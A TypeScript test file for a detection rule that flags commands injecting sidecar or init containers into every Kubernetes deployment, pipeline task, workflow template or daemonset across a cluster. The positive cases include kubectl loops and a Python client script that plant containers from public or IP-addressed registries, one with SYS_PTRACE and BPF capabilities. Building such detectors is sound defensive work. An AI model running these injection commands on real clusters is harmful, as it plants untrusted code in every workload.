import { indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandInjectedContainer } from './injected-container.ts';

const sidecar = (image: string, more: object = {}): string =>
  JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'trace', image, ...more }] } } } });
const inEach = (patch: string, list = 'kubectl get deploy -A --no-headers'): string =>
  `${list} | while read ns name rest; do kubectl -n "$ns" patch deploy "$name" --type strategic -p '${patch}'; done`;
const PYTHON = 'from kubernetes import client, config\nconfig.load_incluster_config()\na = client.AppsV1Api()\n';

indicatorTable(commandInjectedContainer, {
  fires: {
    'an image of an account that anybody may have': script(inEach(sidecar('docker.io/tracinglab/agent:1'))),
    'an image at an address': script(inEach(sidecar('203.0.113.7:5000/agent:1'))),
    'an own image that sees other processes': script(
      inEach(
        sidecar('registry.example.com/agent:1', { securityContext: { capabilities: { add: ['SYS_PTRACE', 'BPF'] } } }),
      ),
    ),
    'a container that runs first': script(inEach(sidecar('tracinglab/agent').replace('containers', 'initContainers'))),
    'a patch of operations': script(
      inEach(
        '[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"a","image":"tracinglab/agent"}}]',
      ),
    ),
    'a text in a variable': script(
      `P='${sidecar('tracinglab/agent')}'\nfor ns in $(kubectl get ns -o name); do for d in $(kubectl get deploy -n $ns -o name); do kubectl -n $ns patch $d -p "$P"; done; done`,
    ),
    'a step in each task of a pipeline': script(
      `kubectl get tasks -A --no-headers | while read ns t rest; do kubectl -n $ns patch task $t --type json -p '[{"op":"add","path":"/spec/steps/-","value":{"name":"a","image":"tracinglab/agent","script":"agent run"}}]'; done`,
    ),
    'a sidecar in each template of workflows': script(
      `kubectl get workflowtemplates -A --no-headers | while read ns t rest; do kubectl -n $ns patch workflowtemplate $t --type merge -p '{"spec":{"templateDefaults":{"sidecars":[{"name":"a","image":"tracinglab/agent","args":["run"]}]}}}'; done`,
    ),
    'a client in Python': runs(
      'python3',
      '-c',
      `${PYTHON}for d in a.list_deployment_for_all_namespaces().items:\n  a.patch_namespaced_deployment(d.metadata.name, d.metadata.namespace, ${sidecar('docker.io/tracinglab/agent:1')})`,
    ),
    'a list of containers that is put there': script(
      'kubectl get ds -A -o json | jq -r \'.items[]|"\\(.metadata.namespace) \\(.metadata.name)"\' | while read ns n; do kubectl patch ds $n -n $ns --type=json -p=\'[{"op":"add","path":"/spec/template/spec/initContainers","value":[{"name":"i","image":"quay.io/tracinglab/init"}]}]\'; done',
    ),
  },
  staysSilent: {
    'a step in each task of one namespace': script(
      `for t in $(kubectl get task -n ci -o name); do kubectl -n ci patch $t --type json -p '[{"op":"add","path":"/spec/steps/-","value":{"name":"scan","image":"aquasec/trivy:0.58.0","args":["fs","."]}}]'; done`,
    ),
    'one workload': script(`kubectl -n shop patch deploy web -p '${sidecar('docker.io/tracinglab/agent:1')}'`),
    'workloads of one namespace': script(
      inEach(sidecar('docker.io/grafana/alloy:v1.5.0'), 'kubectl get deploy -n shop --no-headers'),
    ),
    'workloads of a label': script(
      inEach(sidecar('docker.io/grafana/alloy:v1.5.0'), 'kubectl get deploy -A -l trace=on --no-headers'),
    ),
    'another version of an own image': script(inEach(sidecar('registry.example.com/shop/proxy:1.4.3'))),
    'limits for what each workload has': script(
      inEach('{"spec":{"template":{"spec":{"containers":[{"name":"app","resources":{"limits":{"memory":"1Gi"}}}]}}}}'),
    ),
    'an annotation of each workload': script(
      inEach('{"spec":{"template":{"metadata":{"annotations":{"restartedAt":"now"}}}}}'),
    ),
    'a restart of all': script('kubectl get deploy -A -o name | xargs -n1 kubectl rollout restart'),
    'workloads that code chooses': runs(
      'python3',
      '-c',
      `${PYTHON}for d in a.list_deployment_for_all_namespaces().items:\n  if 'trace' in d.metadata.labels:\n    a.patch_namespaced_deployment(d.metadata.name, d.metadata.namespace, ${sidecar('docker.io/tracinglab/agent:1')})`,
    ),
  },
  cannotTell: UNSEEN,
});
